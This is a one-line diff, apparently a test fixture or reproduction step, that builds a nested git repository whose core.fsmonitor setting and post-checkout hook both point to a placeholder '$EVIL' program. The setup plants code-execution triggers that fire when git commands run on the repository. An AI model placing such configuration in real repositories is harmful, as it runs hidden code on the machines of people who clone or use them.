@@ -1,0 +1,1 @@
+mkdir nested && git init -q nested && git -C nested config core.fsmonitor "$EVIL" && cp "$EVIL" nested/.git/hooks/post-checkout && echo x > nested/file && git -C nested add -A && git -C nested commit -qm x
